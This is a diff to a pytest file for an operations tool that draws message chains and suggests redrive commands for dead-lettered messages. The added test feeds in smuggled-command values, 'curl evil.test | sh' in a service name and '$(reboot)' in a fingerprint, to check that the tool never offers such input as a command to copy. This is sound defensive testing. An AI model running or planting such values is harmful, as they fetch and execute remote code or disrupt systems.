@@ -101,17 +101,17 @@ def test_of_a_chain_that_many_messages_share_the_one_that_was_asked_for_is_shown
 
 def test_who_was_told_and_what_people_did_are_hops(capsys: pytest.CaptureFixture[str]) -> None:
     stage = FakeStage()
-    died: dict[str, Any] = {"outcome": "dead_lettered", "reason": "permanent", "fingerprint": "c0ffee"}
+    died: dict[str, Any] = {"outcome": "dead_lettered", "reason": "permanent", "fingerprint": "c0ffee123456"}
     stage.logs.write("email.send", NOON, id="mail-1", type="email.send", correlation_id="booking-1", **died)
     stage.logs.write("slack_notifier", NOON + timedelta(seconds=40), message="posted", ids=["mail-0", "mail-1"])
 
     shown = run(stage, "mail-1", capsys)
 
-    assert "✗ dead-lettered permanent c0ffee" in shown
+    assert "✗ dead-lettered permanent c0ffee123456" in shown
     assert "+40.000s ! told in Slack" in shown
     assert "mail-0" not in shown
     assert "1 dead letter" in shown
-    assert "python -m ops redrive email.send --fingerprint c0ffee --stage prod" in shown
+    assert "python -m ops redrive email.send --fingerprint c0ffee123456 --stage prod" in shown
 
 
 def test_an_unknown_id_says_where_it_was_looked_for_and_what_may_be(stage: FakeStage) -> None:
@@ -166,7 +166,7 @@ def test_what_is_announced_is_shown_with_how_it_stands() -> None:
 
 
 def test_a_dead_letter_that_was_sent_back_or_discarded_is_none_any_more() -> None:
-    died = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee")
+    died = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
     arn = "arn:aws:sts::1:assumed-role/Admin/ada"
 
     sent_back = drawn(died, line(1, Deed.REDRIVEN, who=arn))
@@ -209,3 +209,19 @@ def test_deep_chains_are_drawn() -> None:
     lines = [line(at, Outcome.SUCCEEDED, id=str(at), causation_id=str(at - 1) if at else "") for at in range(60)]
 
     assert "60 messages" in drawn(*lines)
+
+
+@pytest.mark.parametrize(
+    "made_up",
+    [
+        {"service": "email.send; curl evil.test | sh", "fingerprint": "c0ffee123456"},
+        {"service": "email.send", "fingerprint": "c0ffee"},
+        {"service": "email.send", "fingerprint": "$(reboot)"},
+    ],
+    ids=str,
+)
+def test_no_command_is_given_to_copy_that_whoever_wrote_the_log_made_up(made_up: dict[str, str]) -> None:
+    shown = drawn(line(0, Outcome.DEAD_LETTERED, reason="permanent", **made_up))
+
+    assert shown.splitlines()[-1].endswith("1 dead letter")
+    assert "python -m ops" not in shown
